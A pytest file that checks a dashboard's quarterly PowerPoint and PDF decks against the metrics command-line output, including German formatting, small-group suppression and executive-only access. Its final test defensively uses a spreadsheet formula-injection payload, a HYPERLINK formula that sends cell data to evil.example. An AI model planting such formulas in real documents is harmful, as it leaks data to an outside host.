"""The quarterly deck: every figure in the PowerPoint and the PDF equals `python -m metrics show --role executive`.

Decks for two quarters of the small demo company, in English and German, are generated once per module. The
PowerPoint is opened with python-pptx (table cells, native charts' series), the PDF's text is extracted with pypdf,
and the PDF's pages are rendered to PNG with pdftoppm into test-artifacts/report/ to be looked at.
"""

from __future__ import annotations

import io
import json
import os
import re
import shutil
import subprocess
from contextlib import redirect_stdout
from pathlib import Path

import pytest
from pptx import Presentation
from pptx.enum.chart import XL_CHART_TYPE
from pypdf import PdfReader

from data.db import make_engine
from data.settings import Settings
from metrics.catalogue import METRICS
from metrics.frames import load_frames
from metrics.overview import Metrics
from metrics.periods import Period
from metrics.quarterly import HEADLINE, same_quarter_a_year_before

ROOT = Path(__file__).resolve().parents[2]
TARGETS = ROOT / "data" / "demo" / "targets.toml"
ARTIFACTS = ROOT / "test-artifacts" / "report"
LANGUAGES = ("en", "de")
STATUS = {"en": {"on track": "on track", "at risk": "at risk", "off track": "off track", None: "no status"},
          "de": {"on track": "im Plan", "at risk": "gefährdet", "off track": "nicht im Plan", None: "kein Status"}}
HIDDEN = {"en": "hidden", "de": "verborgen"}
NO_DATA = {"en": "no data", "de": "keine Daten"}
UNDEFINED = {"en": "not defined", "de": "nicht definiert"}
DIVISIONS = "org_unit:2"


# -- how the deck writes a figure, spelled out independently of the dashboard's helpers -------------------------

def written(metric_id: str, value: float, lang: str) -> str:
    unit = METRICS[metric_id].unit
    if unit == "share":
        text = f"{value * 100:,.1f}%"
    elif unit in ("persons", "count"):
        text = f"{round(value):,}"
    else:
        text = f"{value:,.2f}" if metric_id == "N5" else f"{value:,.1f}"
    if lang == "de":
        text = text.replace(",", "_").replace(".", ",").replace("_", ".").replace("%", " %")
    return text


def change_written(metric_id: str, value: float, lang: str) -> str:
    sign = "+" if value >= 0 else "-"
    if METRICS[metric_id].unit == "share":
        magnitude = f"{abs(value):.1f}"
        return f"{sign}{magnitude.replace('.', ',') if lang == 'de' else magnitude} pp"
    return sign + written(metric_id, abs(value), lang)


def comparison(metric_id: str, figures: dict, key: str, lang: str) -> str:
    if figures[key] is not None:
        return written(metric_id, figures[key], lang)
    return {"hidden": HIDDEN[lang], "no data": NO_DATA[lang]}.get(figures[f"{key}_note"] or "", UNDEFINED[lang])


def plain(text: str) -> str:
    """A cell's or a page's text with the deck's non-breaking spaces (75,1 %) and hyphens (2026-Q3) as plain ones."""
    return text.replace("\u00a0", " ").replace("\u2011", "-")


# -- fixtures -----------------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def environment(demo_db_url):
    from tests.conftest import TEST_KEY

    values = {"DIRIGENT_DB_URL": demo_db_url, "DIRIGENT_TARGETS_FILE": str(TARGETS), "DIRIGENT_PSEUDONYM_KEY": TEST_KEY}
    with pytest.MonkeyPatch.context() as patch:
        for name in ("DIRIGENT_MIN_GROUP_SIZE", "DIRIGENT_PSEUDONYM_KEY_FILE", "DIRIGENT_TIMEZONE",
                     "DIRIGENT_WORKS_COUNCIL_MIN_GROUP_SIZE"):
            patch.delenv(name, raising=False)
        for name, value in values.items():
            patch.setenv(name, value)
        yield values


@pytest.fixture(scope="module")
def model(environment) -> Metrics:
    engine = make_engine(environment["DIRIGENT_DB_URL"])
    yield Metrics(load_frames(engine), Settings.from_env())
    engine.dispose()


@pytest.fixture(scope="module")
def quarters(model) -> list[Period]:
    """The newest complete quarter of the demo and the one two before it (whose year-before has no data)."""
    last = model.data_range()[1]
    newest = Period.quarter(last.year, (last.month - 1) // 3 + 1)
    if newest.end > last:
        newest = newest.previous()
    return [newest, newest.previous().previous()]


@pytest.fixture(scope="module")
def decks(model, quarters) -> dict[tuple[str, str, str], bytes]:
    """(quarter, language, format) -> the file, generated as the command line and the page's buttons do."""
    from dashboard.report import deck_bytes

    return {(q.label, lang, kind): deck_bytes(model, q, kind, lang)
            for q in quarters for lang in LANGUAGES for kind in ("pptx", "pdf")}


def show(environment, metric_ids: str, period: Period, by: str | None = None) -> dict[str, dict]:
    """`python -m metrics show --role executive --format json`, run in this process: metric id -> its result."""
    from metrics.__main__ import main

    out = io.StringIO()
    argv = ["show", metric_ids, "--period", period.label, "--role", "executive", "--format", "json"]
    with redirect_stdout(out):
        assert main(argv + (["--by", by] if by else [])) == 0
    results = json.loads(out.getvalue())
    return {r["metric"]: r for r in (results if isinstance(results, list) else [results])}


def values(result: dict, field: str | None = None) -> dict[str, float | None]:
    """group -> value as shown (None when hidden), the organisation's own row ("all") left out."""
    out = {}
    for row in result["rows"]:
        if row["group"] == "all":
            continue
        value = None if row["suppressed"] else row["value"]
        out[row["group"]] = value.get(field) if isinstance(value, dict) and field else value
    return out


def review(environment, quarter: Period) -> dict[str, dict]:
    return {r["group"]: {**r["value"], "suppressed": r["suppressed"]}
            for r in show(environment, "Q", quarter)["Q"]["rows"]}


def slides(data: bytes):
    return list(Presentation(io.BytesIO(data)).slides)


def chart_of(slide):
    return next(shape.chart for shape in slide.shapes if shape.has_chart)


def texts(slide) -> str:
    return plain(" ".join(shape.text_frame.text for shape in slide.shapes if shape.has_text_frame))


def pdf_pages(data: bytes) -> list[str]:
    return [plain(page.extract_text()) for page in PdfReader(io.BytesIO(data)).pages]


def unit_names(model) -> dict[str, str]:
    return dict(model.frames.org_units.select("org_unit_id", "name").iter_rows())


# -- the headline table -------------------------------------------------------------------------------------------

def expected_rows(figures: dict[str, dict], lang: str) -> dict[str, list[str]]:
    rows = {}
    for metric_id in HEADLINE:
        f = figures[metric_id]
        if f["suppressed"]:
            cells = [HIDDEN[lang]] * 3
        else:
            cells = [written(metric_id, f["value"], lang), comparison(metric_id, f, "previous", lang),
                     comparison(metric_id, f, "year_before", lang)]
        rows[metric_id] = cells + ["–" if f["change"] is None else change_written(metric_id, f["change"], lang),
                                   "–" if f["target"] is None else written(metric_id, f["target"], lang),
                                   STATUS[lang][f["status"]]]
    return rows


@pytest.mark.parametrize("lang", LANGUAGES)
def test_the_headline_table_equals_metrics_show(environment, decks, quarters, lang):
    for quarter in quarters:
        figures = review(environment, quarter)
        table = next(s.table for s in slides(decks[(quarter.label, lang, "pptx")])[1].shapes if s.has_table)
        header = [plain(c.text) for c in table.rows[0].cells]
        assert header[1] == quarter.label and header[2].startswith(quarter.previous().label)
        assert header[3].startswith(same_quarter_a_year_before(quarter).label)
        shown = {}
        for row in list(table.rows)[1:]:
            cells = [plain(c.text) for c in row.cells]
            shown[re.search(r"\((\w+)\)$", cells[0]).group(1)] = cells[1:]
        assert shown == expected_rows(figures, lang), (quarter.label, lang)
        assert {f["status"] for f in figures.values()} - {None}, "the demo targets give every figure a status"


@pytest.mark.parametrize("lang", LANGUAGES)
def test_the_pdf_holds_the_same_figures(environment, decks, quarters, lang):
    for quarter in quarters:
        pages = pdf_pages(decks[(quarter.label, lang, "pdf")])
        assert len(pages) == 7
        for metric_id, cells in expected_rows(review(environment, quarter), lang).items():
            after = pages[1].split(f"({metric_id})", 1)[1]  # the row's cells follow its name, one a line
            assert [line.strip() for line in after.splitlines() if line.strip()][:len(cells)] == cells, metric_id


# -- the topic slides: chart series and labels ---------------------------------------------------------------------

def test_charts_are_native_and_hold_the_figures_of_metrics_show(environment, decks, quarters, model):
    names = unit_names(model)
    for quarter in quarters:
        previous = quarter.previous()
        deck = slides(decks[(quarter.label, "en", "pptx")])
        by_cluster = {p: values(show(environment, "S3", p, "skill_cluster")["S3"]) for p in (previous, quarter)}
        rates = {p: values(show(environment, "P3", p, DIVISIONS)["P3"]) for p in (previous, quarter)}

        participation = chart_of(deck[2])
        assert participation.chart_type == XL_CHART_TYPE.COLUMN_CLUSTERED
        categories = list(participation.plots[0].categories)
        groups = {names.get(g, g): g for g in set(rates[quarter]) | set(rates[previous])}
        assert sorted(categories) == sorted(groups)
        for series, period in zip(participation.plots[0].series, (previous, quarter)):
            assert series.name == period.label
            assert list(series.values) == pytest.approx([rates[period].get(groups[c]) for c in categories])

        skills = chart_of(deck[4])
        assert skills.chart_type == XL_CHART_TYPE.BAR_CLUSTERED
        clusters = [c[:1].lower() + c[1:] for c in skills.plots[0].categories]
        for series, period in zip(skills.plots[0].series, (previous, quarter)):
            assert list(series.values) == pytest.approx([by_cluster[period].get(c) for c in clusters])

        first_data = model.data_range()[0]
        five = [quarter]
        for _ in range(4):
            five.insert(0, five[0].previous())
        trends = {q: show(environment, "N2,C3", q) for q in five}
        lines = (XL_CHART_TYPE.LINE_MARKERS, XL_CHART_TYPE.LINE)  # python-pptx names styled markers LINE
        for slide, metric_id, field, kinds in ((deck[3], "N2", None, lines),
                                               (deck[5], "C3", "accompanied", (XL_CHART_TYPE.COLUMN_CLUSTERED,))):
            drawn = chart_of(slide)
            assert drawn.chart_type in kinds
            assert list(drawn.plots[0].categories) == [q.label for q in five]
            expected = []
            for q in five:
                row = trends[q][metric_id]["rows"][0]
                value = None if q.end < first_data or row["suppressed"] else row["value"]
                expected.append(value[field] if isinstance(value, dict) else value)
            assert list(drawn.plots[0].series[0].values) == pytest.approx(expected), (quarter.label, metric_id)


@pytest.mark.parametrize("lang", LANGUAGES)
def test_highlights_name_the_figures_of_metrics_show(environment, decks, quarters, model, lang):
    names = unit_names(model)
    for quarter in quarters:
        figures = review(environment, quarter)
        deck = slides(decks[(quarter.label, lang, "pptx")])
        pages = pdf_pages(decks[(quarter.label, lang, "pdf")])
        participation, network, skills, companionship = (texts(deck[i]) for i in (2, 3, 4, 5))
        for slide_text, page_text, metric_id in ((participation, pages[2], "P3"), (network, pages[3], "N2"),
                                                 (skills, pages[4], "S3"), (companionship, pages[5], "C3")):
            f = figures[metric_id]
            if f["value"] is not None:
                assert written(metric_id, f["value"], lang) in slide_text
                assert written(metric_id, f["value"], lang) in page_text
            if f["target"] is not None:
                assert written(metric_id, f["target"], lang) in slide_text
        ratios = {g: v for g, v in values(show(environment, "N2", quarter, DIVISIONS)["N2"]).items() if v is not None}
        if len(ratios) >= 2:
            top = max(ratios, key=ratios.get)
            sentence = next(line for line in network.splitlines() if written("N2", ratios[top], lang) in line)
            assert names[top] in sentence
        at_risk = [r for r in show(environment, "S4", quarter)["S4"]["rows"]
                   if not r["suppressed"] and r["value"]["at_risk"]]
        if at_risk:
            most = sorted(at_risk, key=lambda r: (-r["value"]["demand"], r["group"]))[0]
            assert f"{most['group']} ({written('P2', most['value']['demand'], lang)}" in skills


def test_the_deck_is_in_german_with_german_numbers(decks, quarters):
    quarter = quarters[0]
    deck = slides(decks[(quarter.label, "de", "pptx")])
    everything = " ".join(texts(s) for s in deck)
    assert "Quartalsbericht" in everything and "Kennzahlen" in everything and "Beteiligungsquote" in everything
    for english in ("on track", "at risk", "off track", "Target", "previous", "Participation"):
        assert english not in everything, english
    assert re.search(r"\d+,\d %", everything) and not re.search(r"\d+\.\d%", everything)
    pdf = " ".join(pdf_pages(decks[(quarter.label, "de", "pdf")]))
    assert "Geschäftsleitung" in pdf and "Lernbegleitung" in pdf and "Größte Veränderung" in pdf


def test_sixteen_to_nine_with_a_title_method_and_sources(decks, quarters, model):
    presentation = Presentation(io.BytesIO(decks[(quarters[0].label, "en", "pptx")]))
    assert presentation.slide_width * 9 == presentation.slide_height * 16
    deck = list(presentation.slides)
    assert len(deck) == 7
    assert f"Quarterly review {quarters[0].label}" in texts(deck[0])
    method = texts(deck[6])
    assert all(f"{m} · " in method for m in (*HEADLINE, "S4"))
    assert "k = 10" in method
    sources = next(s.table for s in deck[6].shapes if s.has_table)
    assert {plain(r.cells[0].text) for r in list(sources.rows)[1:]} == set(model.frames.sync_runs["source"])


# -- the executive's privacy rules -----------------------------------------------------------------------------------

def test_every_figure_hidden_below_k_never_zero(environment, model, quarters, monkeypatch):
    from dataclasses import replace

    from dashboard.report import deck_bytes

    small = Metrics(model.frames, replace(model.settings, min_group_size=100_000))
    data = deck_bytes(small, quarters[0], "pptx", "en")
    deck = slides(data)
    table = next(s.table for s in deck[1].shapes if s.has_table)
    for row in list(table.rows)[1:]:
        assert [c.text for c in row.cells][1:4] == ["hidden"] * 3
    assert not any(shape.has_chart for slide in deck for shape in slide.shapes)
    assert "fewer than 100000 people" in texts(deck[2])
    pdf = " ".join(pdf_pages(deck_bytes(small, quarters[0], "pdf", "en")))
    assert "hidden" in pdf and "0.0%" not in pdf


def test_the_deck_asks_compute_for_the_executive_and_only_its_metrics(model, quarters, monkeypatch):
    from dashboard.report import content

    asked = []
    original = content.compute

    def spy(model_, metric_id, period, by=None, filters=None, **options):
        asked.append((metric_id, options.get("role"), options.get("ledger") is not None))
        return original(model_, metric_id, period, by, filters, **options)

    monkeypatch.setattr(content, "compute", spy)
    content.build(model, quarters[0], "en")
    from metrics.access import POLICY

    assert asked and all(role == "executive" and ledger for _, role, ledger in asked)
    assert {metric_id for metric_id, _, _ in asked} <= set(POLICY["executive"].metrics)


# -- the command line, and pictures of the pages -----------------------------------------------------------------------

def test_the_command_line_writes_the_deck(environment, quarters, tmp_path, capsys):
    from dashboard.report.__main__ import main

    out = tmp_path / "deck.pdf"
    assert main(["--quarter", quarters[0].label, "--format", "pdf", "--lang", "de", "--out", str(out)]) == 0
    assert out.read_bytes().startswith(b"%PDF") and str(out) in capsys.readouterr().out
    assert main(["--quarter", "2026-07", "--out", str(tmp_path / "x.pptx")]) == 2
    assert "not a quarter" in capsys.readouterr().err
    assert main(["--quarter", "2019-Q1", "--out", str(tmp_path / "x.pptx")]) == 2
    assert "ends before the warehouse's first learning data" in capsys.readouterr().err
    assert main(["--quarter", "2999-Q1", "--out", str(tmp_path / "x.pptx")]) == 2
    assert "2999-Q1 is not complete yet" in capsys.readouterr().err
    assert not (tmp_path / "x.pptx").exists()


needs_pdftoppm = pytest.mark.skipif(
    not shutil.which("pdftoppm") and not os.environ.get("CI"),
    reason="pdftoppm is not installed (apt-get install poppler-utils); CI installs it and renders the pages")


@needs_pdftoppm
def test_the_pdf_pages_render_as_pictures(decks):
    """Every page as PNG in test-artifacts/report/, to be looked at (the pages must read well at 110 dpi)."""
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    for (quarter, lang, kind), data in decks.items():
        if kind != "pdf":
            continue
        source = ARTIFACTS / f"quarterly-{quarter}-{lang}.pdf"
        source.write_bytes(data)
        prefix = ARTIFACTS / f"quarterly-{quarter}-{lang}"
        subprocess.run(["pdftoppm", "-r", "110", "-png", str(source), str(prefix)], check=True, timeout=120)
        pictures = sorted(ARTIFACTS.glob(f"quarterly-{quarter}-{lang}-*.png"))
        assert len(pictures) == 7 and all(p.stat().st_size > 10_000 for p in pictures)


def test_a_chart_workbook_keeps_a_name_that_looks_like_a_formula_as_text():
    """PowerPoint's "Edit Data" opens the chart's embedded workbook: a category or series name must not run."""
    import openpyxl

    from dashboard.report.content import Chart, Deck, Series, Slide
    from dashboard.report.powerpoint import render

    name = '=HYPERLINK("http://evil.example/?"&A1,"details")'
    chart = Chart("column", "title", [name, "Vertrieb"], [Series("@SUM(1)", [0.5, 0.25], ["50%", "25%"], "current")],
                  "share", ("P3",))
    deck = Deck(Period.parse("2026-Q3"), "en", 10, "Demo AG", "footer",
                [Slide("topic", "Participation", subtitle="finding", highlights=["one"], chart=chart)])
    drawn = chart_of(slides(render(deck))[0])
    assert list(drawn.plots[0].categories) == ["'" + name, "Vertrieb"]
    book = openpyxl.load_workbook(io.BytesIO(drawn.part.chart_workbook.xlsx_part.blob))
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    assert "'@SUM(1)" in [cell.value for cell in cells]
